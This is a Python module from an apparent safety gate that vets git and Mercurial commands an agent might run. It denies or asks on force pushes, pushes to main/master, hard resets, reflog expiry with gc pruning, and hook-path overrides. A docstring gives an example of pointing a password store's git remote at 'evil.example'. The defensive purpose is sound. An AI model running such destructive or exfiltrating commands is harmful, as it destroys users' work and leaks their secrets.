"""git: force pushes, pushes to main/master, and the commands that throw away work or history.

Decisions (documented in the class catalog):
- a force push (``-f``, ``--force[=…]``, ``--force-with-lease``, ``--force-if-includes``, ``+refspec``,
  ``--mirror``) denies when it can reach a protected branch or when the target is not named; a force
  push of an explicitly named feature branch asks;
- any push to ``main``/``master`` (``main``, ``HEAD:main``, ``refs/heads/master``, ``--all``) denies;
- a push without a refspec (``git push``, ``git push origin``, ``HEAD``) pushes the current branch,
  which the gate cannot know: it asks (``git.push_current``);
- ``--prune`` deletes every remote branch the refspecs cover that has no local counterpart (main/master
  too): denied, as a deletion of many remote branches (``git.branch_delete`` at deny); ``git fetch --prune``
  only prunes local remote-tracking refs and is not a push;
- ``--dry-run`` pushes nothing: no finding.
"""
from __future__ import annotations

import re
from typing import Final, Sequence

from phlegyas.analysis import git_index
from phlegyas.analysis.shell.invocation import Invocation
from phlegyas.analysis.shell.parse import Word
from phlegyas.analysis.tier1.base import Out, add, env_for, parse_opts
from phlegyas.analysis.tier1.words import resolve
from phlegyas.analysis.urls import FORGES, foreign_code_host, git_url_host
from phlegyas.core.analysis import AnalysisEnv
from phlegyas.core.model import Verdict

PROTECTED_BRANCHES: Final = frozenset({"main", "master"})

_GLOBAL_WITH_VALUE: Final = frozenset({"-C", "-c", "--git-dir", "--work-tree", "--namespace", "--exec-path",
                                       "--super-prefix", "--config-env", "--list-cmds", "--attr-source"})


def split_git(args: list[Word]) -> tuple[list[tuple[str, str]], str | None, list[Word]]:
    """(global ``-c key=value`` settings, subcommand, its arguments) of ``git ARGS``."""
    configs: list[tuple[str, str]] = []
    i, n = 0, len(args)
    while i < n:
        t = args[i].text
        if not t.startswith("-") or t == "-":
            break
        name, eq, value = t.partition("=")
        if name in _GLOBAL_WITH_VALUE and not eq:
            value = args[i + 1].text if i + 1 < n else ""
            i += 1
        if name == "-c":
            key, _, val = value.partition("=")
            configs.append((key.lower(), val))
        elif name == "--config-env":
            configs.append((value.partition("=")[0].lower(), "$" + value.partition("=")[2]))
        i += 1
    if i >= n:
        return configs, None, []
    return configs, args[i].text, args[i + 1:]


def _env_configs(inv: Invocation) -> list[tuple[str, str]]:
    """Settings given through the environment: ``GIT_CONFIG_PARAMETERS="'k'='v' …"`` (what ``git -c`` passes
    down) and ``GIT_CONFIG_KEY_n``/``GIT_CONFIG_VALUE_n``."""
    given = {name: value.text for name, value in inv.command.assignments}
    out = [(k.lower(), v) for k, v in _PARAMETER.findall(given.get("GIT_CONFIG_PARAMETERS", ""))]
    out += [(given[k].lower(), given.get("GIT_CONFIG_VALUE_" + k[15:], "")) for k in given
            if k.startswith("GIT_CONFIG_KEY_")]
    return out


_PARAMETER: Final = re.compile(r"'([^']*)'='([^']*)'")


def detect_git(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    configs, sub, rest = split_git(inv.args)
    if inv.command.assignments:
        configs += _env_configs(inv)
    if sub == "push":
        for key, value in configs:
            if key.startswith("remote.") and (key.endswith(".push") and value.startswith("+") or key.endswith(
                    ".mirror") and value.lower() in ("true", "yes", "on", "1")):
                add(out, "git.force_push", inv, f"git push with {key}={value} force-updates the remote's branches, "
                                                "replacing their history")
                return
    for key, _ in configs:
        if key in _HOOK_KEYS:
            add(out, "persistence.git_hooks", inv, f"git -c {key} runs programs from a chosen location")
    if sub in ("checkout", "restore"):
        _discards(inv, sub, rest, env_for(inv, env), out)
        return
    words = [w.text for w in rest if not w.text.startswith("-")]
    if sub == "config" and len(words) >= 2 and words[0].lower().startswith("remote.") and words[0].lower().endswith(
            ".push") and words[1].startswith("+"):  # `git config remote.origin.push '+refs/heads/*:refs/heads/*'`
        add(out, "git.force_push", inv, f"git config {words[0]} {words[1]} makes every push to that remote a force "
                                        "push, replacing its history")
        return
    if sub == "config" and len(words) >= 2:
        _config_redirects(inv, words[0], words[1], out)
    handler = _SUBCOMMANDS.get(sub or "")
    if handler is not None:
        handler(inv, rest, out)





def _config_redirects(inv: Invocation, key: str, value: str, out: Out) -> None:
    """``git config url.NEW.insteadOf OLD`` where OLD is a forge and NEW another host, and ``remote.X.mirror
    true`` (every push force-updates and deletes the remote's branches)."""
    low = key.lower()
    if low.startswith("url.") and low.endswith((".insteadof", ".pushinsteadof")):
        new = key[4:key.lower().rindex(".")]
        old_host, new_host = git_url_host(value), git_url_host(new)
        if old_host in FORGES and new_host not in (old_host, ""):
            add(out, "git.url_rewrite", inv, f"git config {key} {value} sends every fetch from {old_host} to "
                                             f"{new_host}")
    elif low.startswith("remote.") and low.endswith(".mirror") and value.lower() in ("true", "yes", "on", "1"):
        add(out, "git.force_push", inv, f"git config {key} true makes every push to that remote a mirror push: its "
                                        "branches are force-updated and those missing here deleted")


# -- push --------------------------------------------------------------------------------------------

_PUSH_VALUES: Final = frozenset({"--repo", "--push-option", "--receive-pack", "--exec", "--recurse-submodules"})


def _branch(ref: str) -> str:
    for prefix in ("refs/heads/", "heads/"):
        if ref.startswith(prefix):
            return ref[len(prefix):]
    return ref


def _push(inv: Invocation, args: list[Word], out: Out) -> None:
    opts = parse_opts(args, short_values="o", long_values=_PUSH_VALUES)
    if opts.has("-n", "--dry-run"):
        return
    hard = opts.has("-f", "--force")  # the seed's rule: every plain force push denies
    force = hard or opts.has("--force-with-lease", "--force-if-includes")
    delete = opts.has("-d", "--delete")
    positional = [w.text for w in opts.operands]
    remote = positional[0] if positional else "the default remote"
    refspecs = positional[1:]
    if opts.has("--mirror"):
        add(out, "git.force_push", inv, f"git push --mirror overwrites and deletes every ref on {remote}")
        return
    if opts.has("--prune"):
        what = " ".join(refspecs) if refspecs else "the pushed refspecs"
        add(out, "git.branch_delete", inv, f"git push --prune deletes every branch on {remote} that {what} covers "
                                           "and that has no local branch of the same name (main/master too)",
            Verdict.DENY)
    targets: list[str] = []
    for spec in refspecs:
        if spec.startswith("+"):
            force = hard = True
            spec = spec[1:]
        src, colon, dst = spec.rpartition(":") if ":" in spec else ("", "", spec)
        if colon and src == "":
            delete_target = _branch(dst)
            _push_delete(inv, remote, delete_target, out)
            continue
        targets.append(_branch(dst if colon else spec))
    if delete:
        for t in targets:
            _push_delete(inv, remote, t, out)
        return
    everything = opts.has("--all", "--branches")
    if not refspecs and opts.has("--tags") and not everything:
        return
    protected = sorted({t for t in targets if t in PROTECTED_BRANCHES})
    unknown = everything or not refspecs or any(t in ("HEAD", "@", "") for t in targets)
    named = ", ".join(targets) if targets else "the current branch"
    if force:
        if hard and not (protected or unknown):
            add(out, "git.force_push", inv, f"force-pushes {named} to {remote}, replacing its history (only "
                                            "--force-with-lease to a branch other than main/master asks)")
        elif protected or unknown:
            what = ", ".join(protected) if protected else ("every branch" if everything else "the current branch")
            add(out, "git.force_push", inv, f"force-pushes {what} to {remote}, rewriting its history")
        else:
            add(out, "git.force_push", inv, f"force-pushes {named} to {remote}", Verdict.ASK)
        return
    if protected or everything:
        what = ", ".join(protected) if protected else "every branch, main included"
        add(out, "git.push_protected", inv, f"pushes {what} to {remote} directly")
    elif unknown:
        add(out, "git.push_current", inv, f"pushes the current branch (which may be main) to {remote}")


def _push_delete(inv: Invocation, remote: str, branch: str, out: Out) -> None:
    if branch in PROTECTED_BRANCHES:
        add(out, "git.push_protected", inv, f"deletes {branch} on {remote}")
    else:
        add(out, "git.branch_delete", inv, f"deletes the branch {branch} on {remote}")


# -- work-discarding commands --------------------------------------------------------------------------

def _reset(inv: Invocation, args: list[Word], out: Out) -> None:
    if any(w.text == "--hard" for w in args):
        add(out, "git.reset_hard", inv, "git reset --hard discards uncommitted changes in the work tree")


def _clean(inv: Invocation, args: list[Word], out: Out) -> None:
    opts = parse_opts(args, short_values="e", long_values=frozenset({"--exclude"}))
    if opts.has("-n", "--dry-run", "-i", "--interactive"):
        return
    if opts.has("-f", "--force"):
        extra = " and ignored files" if opts.has("-x", "-X") else ""
        dirs = " and directories" if opts.has("-d") else ""
        add(out, "git.clean", inv, f"git clean deletes untracked files{dirs}{extra} for good")


def _discards(inv: Invocation, sub: str, args: list[Word], env: AnalysisEnv, out: Out) -> None:
    """``git checkout -- PATHS`` and ``git restore PATHS`` copy the index (or a commit) over the work tree:
    uncommitted edits of those files are lost. A named file whose content is the index's own
    (``git_index.restorable``) has no such edits, so copying the index over it loses nothing."""
    paths, from_index = (_checkout_paths if sub == "checkout" else _restore_paths)(inv, args, out)
    if paths is None:
        return
    if any(w.text.startswith("--pathspec-from-file") for w in args):
        add(out, "git.discard_paths", inv, f"git {sub} overwrites uncommitted changes in the files a list names")
        return
    if any(_whole_tree(p.text) for p in paths):
        add(out, "git.discard_changes", inv, f"git {sub} of the whole tree throws away every uncommitted change")
    elif paths and not ((from_index or sub == "restore" and not _staged(args))
                        and all(_unchanged(p, env) for p in paths)):
        names = ", ".join(p.text for p in paths[:3])
        add(out, "git.discard_paths", inv, f"git {sub} overwrites uncommitted changes in {names}")


def _staged(args: list[Word]) -> bool:
    """``git restore --staged``: the index is overwritten too (without it, a file whose content the index
    holds loses nothing to ``--source=HEAD~2``: ``git restore FILE`` brings it back)."""
    return any(w.text in ("-S", "--staged") or w.text.startswith("-") and not w.text.startswith("--")
               and "S" in w.text[1:] for w in args)


def _unchanged(word: Word, env: AnalysisEnv) -> bool:
    if word.dynamic or word.glob or word.text.startswith(("-", ":")):
        return False
    return git_index.restorable(resolve(word.text, env), env.project_root)


def _checkout_paths(inv: Invocation, args: list[Word], out: Out) -> tuple[list[Word] | None, bool]:
    """The paths ``git checkout`` overwrites (None: it switches branches or already has a finding), and
    whether they come from the index (``git checkout -- a.py``, no commit named before ``--``)."""
    texts = [w.text for w in args]
    if any(t in ("-b", "-B", "--orphan") for t in texts):
        return None, False
    if any(t in ("-f", "--force") for t in texts):
        add(out, "git.discard_changes", inv, "git checkout --force throws away local changes")
        return None, False
    if "--" in texts:
        at = texts.index("--")
        before = [t for t in texts[:at] if not t.startswith("-")]
        return args[at + 1:], not before
    return [w for w in args if w.text == "."], False


def _restore_paths(inv: Invocation, args: list[Word], out: Out) -> tuple[list[Word] | None, bool]:
    """The paths ``git restore`` overwrites in the work tree (None: only the index), and whether they come
    from the index (no ``--source``, not ``--staged`` as well)."""
    opts = parse_opts(args, short_values="s", long_values=frozenset({"--source"}))
    staged = opts.has("-S", "--staged")
    if staged and not opts.has("-W", "--worktree"):
        return None, False
    return list(opts.operands), not staged and not opts.has("-s", "--source")


def _whole_tree(path: str) -> bool:
    """``.``, ``./``, ``:/``, ``*`` and the like name every file of the work tree."""
    return path.rstrip("/") in ("", ".", ":", ":/", "*", ":(top)") or path in ("./*", ":/*")


def _switch(inv: Invocation, args: list[Word], out: Out) -> None:
    if any(w.text in ("-f", "--force", "--discard-changes") for w in args):
        add(out, "git.discard_changes", inv, "git switch --discard-changes throws away local changes")


def _stash(inv: Invocation, args: list[Word], out: Out) -> None:
    if args and args[0].text == "clear":
        add(out, "git.discard_changes", inv, "git stash clear deletes every stash")
    elif args and args[0].text == "drop":  # one stash: git prints its commit, which `git stash apply` takes back
        add(out, "git.discard_changes", inv, "git stash drop deletes a stash (git prints its commit, which stays "
                                             "recoverable until git gc)", Verdict.ASK)


def _branch_cmd(inv: Invocation, args: list[Word], out: Out) -> None:
    opts = parse_opts(args)
    if opts.has("-D") or opts.has("-d", "--delete") and opts.has("-f", "--force"):
        names = ", ".join(w.text for w in opts.operands) or "a branch"
        add(out, "git.branch_delete", inv, f"force-deletes {names}, unmerged commits included")


def _rewrite(inv: Invocation, args: list[Word], out: Out) -> None:
    add(out, "git.history_rewrite", inv, f"git {_sub_name(inv)} rewrites the repository's history")


def _sub_name(inv: Invocation) -> str:
    return split_git(inv.args)[1] or ""


def _update_ref(inv: Invocation, args: list[Word], out: Out) -> None:
    if any(w.text in ("-d", "--stdin") for w in args):
        add(out, "git.history_rewrite", inv, "git update-ref deletes or rewrites refs directly")


def _reflog(inv: Invocation, args: list[Word], out: Out) -> None:
    if args and args[0].text in ("expire", "delete"):
        add(out, "git.history_rewrite", inv, f"git reflog {args[0].text} removes the record that lets lost commits be recovered")


def _gc(inv: Invocation, args: list[Word], out: Out) -> None:
    if any(w.text in ("--prune=now", "--prune=all") for w in args):
        add(out, "git.history_rewrite", inv, "git gc --prune=now deletes unreachable commits immediately")


def unrecoverable_history(invocations: Sequence[Invocation], out: Out) -> None:
    """A line that drops commits (a branch force-deleted, refs deleted, a hard reset, an orphan branch, a
    rewrite) and then expires the reflog and prunes: nothing is left to recover them from (deny)."""
    dropped = expired = None
    for inv in invocations:
        if inv.program != "git" or not inv.args:
            continue
        texts = [w.text for w in inv.args]
        sub, rest = texts[0], texts[1:]
        if sub == "branch" and any(t in ("-D", "--delete") or t.startswith("-") and "D" in t for t in rest) or \
                sub == "update-ref" and any(t in ("-d", "--stdin") for t in rest) or sub == "reset" and "--hard" in \
                rest or sub in ("checkout", "switch") and any(t in ("--orphan", "--orphan=") for t in rest) or sub in (
                "filter-branch", "filter-repo"):
            dropped = dropped or sub + {"branch": " -D", "reset": " --hard", "checkout": " --orphan",
                                        "switch": " --orphan"}.get(sub, "")
        elif sub == "reflog" and rest[:1] == ["expire"] and any(t in ("--expire=now", "--expire=all") for t in rest):
            expired = True
        elif sub == "gc" and expired and dropped and any(t in ("--prune=now", "--prune=all") for t in rest):
            add(out, "git.history_rewrite", inv, f"git {dropped} drops commits, and the reflog expiry and git gc "
                                                 "--prune=now that follow delete them for good", Verdict.DENY)
            return


def detect_pass_remote(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``pass git remote add m git@evil.example:x/pass.git``: the password store's git remote set to a host that
    is no forge and no private one: its next ``pass git push`` hands over every password (encrypted, with the
    names of every site and account in the clear)."""
    texts = [w.text for w in inv.args]
    if texts[:3] in (["git", "remote", "add"], ["git", "remote", "set-url"]) and len(texts) >= 5:
        host = git_url_host(texts[4])
        if host and foreign_code_host(host):
            add(out, "net.exfiltration", inv, f"pass sends the password store to {host} (its git remote)")


def detect_hg(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """Mercurial's ``strip`` (also behind ``--config extensions.strip=``): commits removed from the repository;
    with ``--no-backup`` or of every revision (``all()``, ``0:``) nothing is kept to bring them back."""
    texts = [w.text for w in inv.args]
    plain = [t for i, t in enumerate(texts) if not t.startswith("-") and not (i and texts[i - 1] in (
        "--config", "-R", "--repository", "--cwd", "-r", "--rev"))]
    if plain[:1] != ["strip"] and plain[:1] != ["prune"]:
        return
    revs = [texts[i + 1] for i, t in enumerate(texts[:-1]) if t in ("-r", "--rev")] + plain[1:]
    every = any(r.replace(" ", "") in ("all()", "0:", "0", "0:tip", "::", ":") for r in revs)
    if every or "--no-backup" in texts:
        add(out, "git.history_rewrite", inv, f"hg {plain[0]} removes {'every commit' if every else 'commits'} "
                                             + ("without a backup bundle" if "--no-backup" in texts else
                                                "of the repository"), Verdict.DENY)
    else:
        add(out, "git.history_rewrite", inv, f"hg {plain[0]} removes commits (a backup bundle is kept)")


_HOOK_KEYS: Final = frozenset({"core.hookspath", "core.fsmonitor"})
_CONFIG_READ: Final = frozenset({"--get", "--get-all", "--get-regexp", "--list", "-l", "--unset", "--unset-all",
                                 "--get-urlmatch", "--show-origin", "--name-only"})


def _config(inv: Invocation, args: list[Word], out: Out) -> None:
    texts = [w.text for w in args]
    if any(t in _CONFIG_READ for t in texts) or "get" in texts[:1] or "list" in texts[:1] or "unset" in texts[:1]:
        return
    values = [t for t in texts if not t.startswith("-")]
    if values and values[0] == "set":
        values = values[1:]
    if len(values) >= 2 and values[0].lower() in _HOOK_KEYS:
        add(out, "persistence.git_hooks", inv, f"git config {values[0]} makes git run programs from {values[1]}")


_SUBCOMMANDS: Final = {
    "push": _push,
    "reset": _reset,
    "clean": _clean,
    "switch": _switch,
    "stash": _stash,
    "branch": _branch_cmd,
    "filter-branch": _rewrite,
    "filter-repo": _rewrite,
    "update-ref": _update_ref,
    "reflog": _reflog,
    "gc": _gc,
    "config": _config,
}
